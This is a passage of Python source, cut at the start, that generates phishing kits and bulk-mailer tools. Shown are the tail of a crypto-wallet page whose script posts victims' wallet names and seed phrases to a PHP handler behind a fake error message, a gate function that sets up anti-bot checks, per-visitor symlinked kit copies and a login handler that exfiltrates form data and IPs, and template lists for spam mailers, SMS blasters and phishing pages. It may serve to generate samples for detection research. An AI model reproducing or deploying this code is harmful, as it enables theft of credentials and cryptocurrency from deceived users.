            "fetch('save.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'wallet='+encodeURIComponent(document.getElementById('wallet').value)+'&phrase='+encodeURIComponent(p)})\n"
            ".then(function(){document.body.innerHTML='<h3>Synchronization failed, try again later.</h3>';});};\n</script></body></html>\n")
    return [(base + "config.php", _cfg(r), "php"), (base + "save.php", php, "php"), (base + "index.html", html, "html")], "wallet/" + ek


def random_dir_gate(r, S):
    """An index.php that lands each visitor in a fresh random copy of the kit (by symlink
    or by rewriting a token), after the anti-bot; the handler sits inside."""
    kind, title, d = _brand(r)
    abk, ab = _antibot(r)
    ek, ex = _exfil(r, "$msg")
    gate = ("<?php\nsession_start();\nrequire __DIR__ . '/ab.php';\n$t = substr(sha1(uniqid('', true)), 0, 12);\n"
            "@symlink(__DIR__ . '/app', __DIR__ . '/s_' . $t);\n$_SESSION['t'] = $t;\nheader('Location: s_' . $t . '/login.php?sid=' . session_id());\n")
    login = ("<?php\nsession_start();\nrequire dirname(__DIR__) . '/config.php';\nif ($_SERVER['REQUEST_METHOD'] === 'POST') {\n"
             "    $ip = $_SERVER['REMOTE_ADDR']; $msg = '%s | ' . $ip . ' | ' . json_encode($_POST);\n    %s\n    header('Location: ' . $cfg['redirect']); exit;\n}\n?>\n"
             % (title, ex.replace("\n", "\n    "))) + _page(r, title, FIELDS[kind], "")
    base = d + "/"
    return [(base + "index.php", gate, "php"), (base + "ab.php", ab, "php"), (base + "config.php", _cfg(r), "php"),
            (base + "app/login.php", login, "php")], "%s/%s" % (kind, abk)


def mailer_templates():
    return [
        ("leaf_ui", leaf_ui, 6), ("smtp_checker", smtp_checker, 4), ("list_validator", list_validator, 3),
        ("email_extractor", email_extractor, 3), ("sms_api_blaster", sms_api_blaster, 4),
        ("rotate_files_mailer", rotate_files_mailer, 4), ("json_queue_mailer", json_queue_mailer, 4),
        ("cli_cron_sender", cli_cron_sender, 4), ("py_smtplib_bulk", py_smtplib_bulk, 4), ("perl_netsmtp_bulk", perl_netsmtp_bulk, 4),
    ]


def phishing_templates():
    return [
        ("session_steps", session_steps, 10), ("one_handler", one_handler, 8), ("html_obfuscated", html_obfuscated, 7),
        ("html_inline_exfil", html_inline_exfil, 6), ("wallet_seed", wallet_seed, 4), ("random_dir_gate", random_dir_gate, 5),
    ]
